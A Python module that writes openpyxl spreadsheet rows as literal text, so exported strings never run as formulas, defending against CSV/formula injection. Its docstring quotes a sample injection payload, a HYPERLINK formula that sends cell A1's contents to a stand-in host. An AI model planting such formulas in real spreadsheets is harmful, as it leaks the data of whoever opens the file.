"""Writing spreadsheet rows whose text is never run as a formula.

openpyxl stores any string starting with "=" as a formula, so a catalog entry named
`=HYPERLINK("http://x/?"&A1,"点此")`, or a column comment a probed database carries, would become a live
formula in an export a clerk opens (OWASP "CSV injection"). Every text cell written by the domain's exports
goes through `row_cells`: strings are stored as strings, with the characters XML cannot hold removed and
the length cut to what one cell holds.
"""

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

MAX_CELL_CHARS = 32_767  # Excel's limit per cell


def cell_text(value: str) -> str:
    return ILLEGAL_CHARACTERS_RE.sub("", value)[:MAX_CELL_CHARS]


def row_cells(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> list[Any]:
    """The row for `sheet.append`: text as literal text cells, other values as they are."""
    cells: list[Any] = []
    for value in values:
        if isinstance(value, str):
            cell = WriteOnlyCell(sheet, value=cell_text(value))  # type: ignore[arg-type]
            cell.data_type = "s"
            cells.append(cell)
        else:
            cells.append(value)
    return cells


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """`sheet.append(values)` with no text cell ever a formula."""
    sheet.append(row_cells(sheet, values))
